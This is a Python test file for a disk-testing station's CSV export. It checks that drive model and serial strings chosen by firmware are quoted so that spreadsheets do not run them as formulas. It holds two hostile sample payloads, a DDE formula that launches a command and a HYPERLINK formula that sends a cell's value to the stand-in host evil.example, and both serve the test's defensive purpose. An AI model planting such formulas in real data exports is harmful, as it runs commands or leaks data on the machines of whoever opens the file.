"""CSV formula injection (issue 16, item 9): a drive's firmware picks its model and
serial, and they must come out of the daily log's CSV as text, never as a formula
(station.reports.spreadsheet, which every CSV Station writes goes through)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from station.reports.daily_log import build_daily_log
from station.reports.daily_log_render import daily_log_csv
from station.reports.spreadsheet import neutral as neutralise

MODEL = "=cmd|' /C calc'!A0"
SERIAL = '=HYPERLINK("http://evil.example/?d="&A1,"voir")'


@pytest.mark.parametrize("cell", [MODEL, SERIAL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_a_spreadsheet_would_run_get_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["WD-WCC4N0000001", "Samsung SSD 860", "—", "0,5", "", "3-5"])
def test_ordinary_cells_are_untouched(cell: str) -> None:
    assert neutralise(cell) == cell


def test_the_daily_log_csv_neutralises_a_hostile_model_and_serial() -> None:
    created = datetime(2026, 11, 22, 9, 0, tzinfo=UTC).isoformat()
    body = {"kind": "self_test", "seq": 1, "record_id": "c" * 64, "created_at": created,
            "operator": "@op", "test": "short", "status": "passed",
            "disk": {"serial": SERIAL, "model": MODEL, "size_bytes": 1}}  # fmt: skip
    log = build_daily_log("bench-x", date(2026, 11, 22), [body], [])
    text = daily_log_csv(log).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header, line = rows[0], rows[1]
    assert line[header.index("Disque")].startswith("'" + MODEL)
    assert line[header.index("N° de série")] == "'" + SERIAL
    assert line[header.index("Opérateur")] == "'@op"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
